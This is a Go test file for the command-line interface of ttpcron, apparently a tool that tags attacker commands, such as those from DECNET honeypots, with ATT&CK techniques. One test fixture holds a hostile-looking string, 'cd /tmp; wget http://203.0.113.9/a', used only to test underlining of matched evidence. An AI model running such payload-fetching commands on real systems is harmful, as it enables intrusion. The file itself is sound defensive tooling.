package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/attack"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/cli"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
	"github.com/ttpcron/ttpcron/importer"
	"github.com/ttpcron/ttpcron/jobs"
	"github.com/ttpcron/ttpcron/kv"
	"github.com/ttpcron/ttpcron/kv/doctor"
)

func TestExitCode(t *testing.T) {
	tests := []struct {
		err  error
		want int
	}{
		{nil, 0},
		{fmt.Errorf("write: %w", syscall.EPIPE), 0},
		{errors.New("x"), 1},
		{jobs.ErrNoRules, 1},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrPermission}}}, 1},
		{cli.Usagef("x"), 2},
		{fmt.Errorf("open: %w", &kv.LockedError{}), 75},
		{errors.Join(jobs.ErrInterrupted, errors.New("x")), 130},
		{fmt.Errorf("read: %w", context.Canceled), 130},
	}
	for _, tt := range tests {
		if got := exitCode(tt.err); got != tt.want {
			t.Errorf("%v: exit %d, want %d", tt.err, got, tt.want)
		}
	}
}

// quiet runs the program without showing its output.
func quiet(env map[string]string) *invocation {
	return &invocation{out: term.NewOutput(io.Discard, io.Discard, env), stdin: strings.NewReader(""), env: env, now: time.Now}
}

// TestLayers is the table of who wins: flags, the environment, the file.
func TestLayers(t *testing.T) {
	file := filepath.Join(t.TempDir(), "c.toml")
	if err := os.WriteFile(file, []byte("role = \"agent\"\ninputs = [\"a\", \"b,c\"]\n[run-once]\nbatch-size = 7\ndry-run = true\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		env  map[string]string
		args []string
		want string
	}{
		{"default", nil, nil, "standalone 500 false []"},
		{"file", map[string]string{"TTPCRON_CONFIG": file}, nil, "agent 7 true [a b,c]"},
		{"file by flag", nil, []string{"--config", file}, "agent 7 true [a b,c]"},
		{"environment", map[string]string{"TTPCRON_CONFIG": file, "TTPCRON_ROLE": "master", "TTPCRON_BATCH_SIZE": "8", "TTPCRON_INPUT": "d,e"}, nil, "master 8 true [d e]"},
		{"empty is unset", map[string]string{"TTPCRON_CONFIG": file, "TTPCRON_ROLE": ""}, nil, "agent 7 true [a b,c]"},
		{"DECNET's mode", map[string]string{"DECNET_MODE": " Agent\n"}, nil, "agent 500 false []"},
		{"DECNET's mode over the file", map[string]string{"TTPCRON_CONFIG": file, "DECNET_MODE": "MASTER"}, nil, "master 7 true [a b,c]"},
		{"ours over DECNET's", map[string]string{"TTPCRON_ROLE": "standalone", "DECNET_MODE": "agent"}, nil, "standalone 500 false []"},
		{"flag over DECNET's", map[string]string{"DECNET_MODE": "agent"}, []string{"--role", "master"}, "master 500 false []"},
		{"no mode of DECNET's", map[string]string{"TTPCRON_CONFIG": file, "DECNET_MODE": "swarm"}, nil, "agent 7 true [a b,c]"},
		{"flags", map[string]string{"TTPCRON_CONFIG": file, "TTPCRON_ROLE": "master", "TTPCRON_BATCH_SIZE": "8"},
			[]string{"--role", "standalone", "--batch-size=9", "--dry-run=false", "--input", "f"}, "standalone 9 false [f]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := map[string]string{"TTPCRON_CONFIG": os.DevNull}
			for k, v := range tt.env {
				env[k] = v
			}
			c := runOnceCommand()
			var got string
			c.Run = func(_ context.Context, s *session, _ []string) error {
				f := func(name string) string { return c.Flags.Lookup(name).Value.String() }
				got = fmt.Sprint(s.set.Role, " ", f("batch-size"), " ", f("dry-run"), " ", s.set.Inputs)
				return nil
			}
			if _, err := quiet(env).commands(&command{Sub: []*command{c}}).Run(t.Context(), append([]string{"run-once"}, tt.args...)); err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}

func TestExcerpt(t *testing.T) {
	for evidence, want := range map[string]string{
		`{"command_text":"id","matched":"x"}`:    "id",
		`{"metric":"m","matched_signature":"s"}`: "s",
		`{"metric":"m"}`:                         "metric m",
		`{"command_text":"","matched":"id"}`:     "id",
		`{}`:                                     "",
		`{"command_text":"\u001b[2J\udcff"}`:     `\x1b[2J\xff`,
		`not json`:                               "not json",
		`{"command_text":"` + strings.Repeat("a", 5000) + `"}`: strings.Repeat("a", maxExcerpt-1) + "~",
	} {
		if got := excerpt(&ttpcron.Tag{Evidence: []byte(evidence)}, term.Terminal{}); got != want {
			t.Errorf("%.60s: got %.80q", evidence, got)
		}
	}
}

func TestUnderline(t *testing.T) {
	text := "cd /tmp\n; wget http://203.0.113.9/a"
	got := underline(text, 10, 14, term.Terminal{})
	if want := "      cd /tmp\\n; wget http://203.0.113.9/a\n                 ^^^^\n"; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	for _, bad := range [][2]int{{-1, 3}, {3, 3}, {4, 99}} {
		if underline(text, bad[0], bad[1], term.Terminal{}) != "" {
			t.Errorf("%v is underlined", bad)
		}
	}
}

func TestPicture(t *testing.T) {
	p := picture{under: attack.Current(), title: "since then", also: "TECHNIQUES", about: true, techniques: []techniqueCount{
		{tactic: "TA0002", technique: "T1059.004", tags: 10}, {tactic: "TA0007", technique: "T1082", tags: 40},
		{tactic: "TA9999", technique: "T9999", tags: 1}, {tactic: "TA0007", technique: "T1033", tags: 20},
	}}
	for i := range 8 {
		p.techniques = append(p.techniques, techniqueCount{tactic: "TA0040", technique: fmt.Sprintf("T148%d", i), tags: 1})
	}
	p.attackers = []attackerCount{{"203.0.113.7", 50, "2"}, {"bad\x1b", 1, "1"}}
	var b strings.Builder
	if err := p.print(&b, term.Terminal{}); err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile("testdata/picture.txt")
	if *update {
		want, err = []byte(b.String()), os.WriteFile("testdata/picture.txt", []byte(b.String()), 0o666)
	}
	if err != nil {
		t.Fatal(err)
	}
	if b.String() != string(want) {
		t.Errorf("got\n%s", b.String())
	}
	for _, width := range []int{20, 60, 80, 100, 200} {
		b.Reset()
		p.print(&b, term.Terminal{Width: width})
		for _, line := range strings.Split(b.String(), "\n") {
			if len(line) > max(width, 80) {
				t.Errorf("width %d: %d cells: %s", width, len(line), line)
			}
		}
	}
}

// TestHints checks the messages for errors of other packages.
func TestHints(t *testing.T) {
	for _, tt := range []struct {
		err  error
		want string
	}{
		{&doctor.NoSpaceError{Dir: "/backup"}, "free some space there"},
		{&kv.LockedError{Path: "t.db"}, "wait until it has finished, or wait longer with --lock-timeout"},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: &importer.UnknownFormatError{Path: "a.log"}}}}, "ttpcron import --list-formats shows what is read, --explain FILE what a file is"},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrNotExist}}}, "check the path: a relative one begins in the current folder"},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrNotExist}}, Others: 1}, "everything else was done; check the path: "},
	} {
		if got := hintOf(fmt.Errorf("doing something: %w", tt.err)); !strings.HasPrefix(got, tt.want) {
			t.Errorf("%v: hint %q, want %q in it", tt.err, got, tt.want)
		}
	}
}
